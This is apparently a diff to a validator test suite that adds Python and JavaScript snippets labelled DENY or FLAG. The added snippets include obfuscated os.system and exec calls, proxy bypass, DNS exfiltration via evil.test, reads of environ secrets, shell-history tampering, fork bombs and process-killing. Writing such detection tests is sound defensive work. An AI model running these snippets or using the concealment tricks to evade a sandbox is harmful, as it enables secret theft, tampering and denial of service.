@@ -61,6 +61,30 @@ class ValidationTest {
           python | import socket\\nsocket.create_connection(('169.254.169.254', 80)) | py.network.domain | DENY
           python | import socket\\nsocket.gethostbyname(input() + '.evil.test') | py.network         | FLAG
           python | ｅｖａｌ('1')                                            | src.confusable          | FLAG
+          python | import os\\nn = 'sys' + 'tem'\\ngetattr(os, n)('id')       | py.concealment          | DENY
+          python | m = __import__(''.join(chr(c) for c in [111, 115]))\\nm.system('id') | py.concealment | DENY
+          python | import timeit\\ntimeit.timeit("__import__('os').system('id')") | py.concealment  | DENY
+          python | import base64\\ns = base64.b64decode('aW1wb3J0IG9z')\\nexec(s) | py.eval.obfuscated  | DENY
+          python | import sys\\nexec(sys.stdin.read())                      | py.eval.external        | DENY
+          python | import ctypes\\nlibc = ctypes.CDLL('libc.so.6')            | py.native.call          | DENY
+          python | import pickle\\npickle.loads(bytes.fromhex('8004'))       | py.deserialisation.crafted | DENY
+          python | import socket\\nsocket.getaddrinfo(input(), 80)           | py.network.dns          | DENY
+          python | import os\\nos.environ['HTTPS_PROXY'] = ''                | py.network.bypass       | DENY
+          python | import requests\\nrequests.Session().get('https://a.example/', proxies={}) | py.network.bypass | DENY
+          python | import functools, os\\nfunctools.partial(os.system, 'id')() | py.calless            | DENY
+          python | import sys, os\\nsys.excepthook = lambda *a: os.system('id') | py.calless          | DENY
+          python | open('/home/u/.bashrc', 'a').write('x')                 | py.tampering            | FLAG
+          python | import os\\nos.remove(os.path.expanduser('~/.bash_history')) | py.tampering        | FLAG
+          python | print(open('/proc/1/environ').read())                   | py.secrets              | FLAG
+          python | import os, signal\\nos.kill(-1, signal.SIGKILL)           | py.abuse                | FLAG
+          python | import os\\nwhile True:\\n  os.fork()                      | py.abuse                | FLAG
+          python | x = []\\nwhile True:\\n  x.append(bytearray(10 ** 8))     | py.abuse                | FLAG
+          javascript | require('child_' + 'process').execSync('id')        | js.concealment          | DENY
+          javascript | const c = Buffer.from('MQ==', 'base64').toString(); eval(c) | js.eval.obfuscated | DENY
+          javascript | require('dns').lookup(process.argv[2] + '.evil.test', () => {}) | js.network.dns | DENY
+          javascript | delete process.env.HTTPS_PROXY                      | js.network.bypass       | DENY
+          javascript | require('fs').appendFileSync('/root/.bashrc', 'x')  | js.tampering            | FLAG
+          javascript | process.kill(-1, 'SIGKILL')                         | js.abuse                | FLAG
           javascript | require('child_process').execSync('id')             | js.process              | FLAG
           javascript | const {exec} = require('node:child_process'); exec('id') | js.process         | FLAG
           javascript | process.binding('spawn_sync')                       | js.binding              | DENY
@@ -105,6 +129,11 @@ class ValidationTest {
           python | import requests\\nprint(requests.get('https://api.example.com/v1/items').json())
           python | import yaml\\nyaml.load(open('c.yml'), Loader=yaml.SafeLoader)
           python | match [1, 2]:\\n  case [a, b]: print(a + b)
+          python | import timeit\\nprint(timeit.timeit('sorted([3, 1, 2])', number=10))
+          python | class Shell:\\n  def do_ls(self): pass\\n  def run(self, cmd): return getattr(self, 'do_' + cmd)()
+          python | import atexit\\natexit.register(print, 'bye')
+          python | # -*- coding: latin-1 -*-\\nprint('plain ascii')
+          python | n = 0\\nwhile n < 3:\\n  n += 1\\nprint(n)
           javascript | const fs = require('fs'); fs.writeFileSync('/work/out.json', JSON.stringify({a: 1}))
           javascript | class A { #x = 1; get x() { return this.#x } }; console.log(new A().x ?? 0)
           javascript | fetch('https://api.example.com/v1/items').then(r => r.json())
